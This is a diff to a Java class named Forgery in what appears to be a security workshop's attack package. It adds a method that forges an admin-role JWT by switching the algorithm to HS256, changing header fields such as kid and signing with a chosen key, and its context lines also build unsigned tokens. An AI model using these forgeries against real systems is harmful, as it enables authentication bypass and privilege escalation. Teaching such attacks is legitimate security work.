@@ -1,5 +1,6 @@
 package workshop.attacks;
 
+import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
@@ -30,6 +31,18 @@ public final class Forgery {
         }
         forged.add(Jwt.parts(token)[0] + "." + adminPayload(token) + ".");
         return forged;
+    }
+
+    /**
+     * A3 · alice's claims with {@code "role": "admin"} in a token signed HS256 with {@code key}: the original header
+     * with {@code alg} set to HS256 and {@code headerChanges} applied (e.g. another {@code kid}).
+     */
+    public static String signedAdmin(String token, Map<String, Object> headerChanges, byte[] key) {
+        Map<String, Object> header = new LinkedHashMap<>(Jwt.header(token));
+        header.put("alg", "HS256");
+        header.putAll(headerChanges);
+        String input = Jwt.part(header) + "." + adminPayload(token);
+        return input + "." + Jwt.encode(HmacVerifier.hs256(key, input.getBytes(StandardCharsets.US_ASCII)));
     }
 
     /** The token's payload with role admin, as a base64url part. */
